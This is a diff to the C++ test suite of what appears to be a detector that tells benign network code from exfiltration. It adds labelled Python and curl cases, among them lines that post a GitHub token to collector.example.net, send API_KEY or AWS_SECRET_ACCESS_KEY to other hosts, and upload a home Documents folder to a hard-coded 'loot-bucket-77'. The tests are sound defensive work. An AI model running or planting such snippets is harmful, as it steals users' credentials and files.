@@ -29,9 +29,38 @@ TEST(RubricClasses, AuthenticationWithOtherEnvironmentValuesInTheBody) {
        "EXFILTRATION"},
       {"curl with a token header to a URL from the environment", L,
        "curl -fsS -H \"Authorization: Bearer $API_TOKEN\" \"$API_URL/v1/status\"\n", nullptr, SH},
-      {"curl posting the token itself", B,
-       "curl -fsS -H \"Authorization: Bearer $API_TOKEN\" -d \"t=$API_TOKEN\" https://collector.example.net/c\n",
+      {"curl posting another service's token to a collector", B,
+       "curl -fsS -H \"Authorization: Bearer $API_TOKEN\" -d \"t=$GITHUB_TOKEN\" https://collector.example.net/c\n",
        "EXFILTRATION", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A key whose name is only generic words (API_KEY, API_PASSWORD) belongs to
+// whatever named API the program talks to, wherever in the request it goes;
+// a plain environment value (a chat id) to a chat API is not data from the
+// machine; the user's files to a bucket the user configured are a backup.
+// Named secrets to other hosts, numeric addresses and buckets written into
+// the code stay theft.
+TEST(RubricClasses, KeysAndFilesGoingWhereTheUserSaid) {
+  const Case cases[] = {
+      {"generic API password in a login body", L,
+       "import os, requests\nrequests.post('https://api.example.com/v1/login', json={'username': 'bot', 'password': os.environ['API_PASSWORD']}, timeout=10)\n"},
+      {"generic API key to a numeric address", B,
+       "import os, requests\nrequests.post('http://203.0.113.8/k', json={'k': os.environ['API_KEY']}, timeout=10)\n", "EXFILTRATION"},
+      {"AWS secret to some API", B,
+       "import os, requests\nrequests.post('https://api.example.com/v1/x', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']}, timeout=10)\n",
+       "EXFILTRATION"},
+      {"Telegram bot with token and chat id from the environment", L,
+       "import os, requests\nTOKEN = os.environ['TELEGRAM_BOT_TOKEN']\nCHAT = os.environ['TELEGRAM_CHAT_ID']\n"
+       "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', json={'chat_id': CHAT, 'text': 'done'}, timeout=10)\n"},
+      {"home documents to a bucket from the environment", L,
+       "import os, boto3\nfrom pathlib import Path\ns3 = boto3.client('s3')\nfor f in (Path.home() / 'Documents').rglob('*'):\n"
+       "    s3.upload_file(str(f), os.environ['BACKUP_BUCKET'], f.name)\n"},
+      {"home documents to a bucket written into the code", B,
+       "import boto3\nfrom pathlib import Path\ns3 = boto3.client('s3')\nfor f in (Path.home() / 'Documents').rglob('*'):\n"
+       "    s3.upload_file(str(f), 'loot-bucket-77', f.name)\n",
+       "EXFILTRATION"},
   };
   for (const auto& c : cases) check(c);
 }
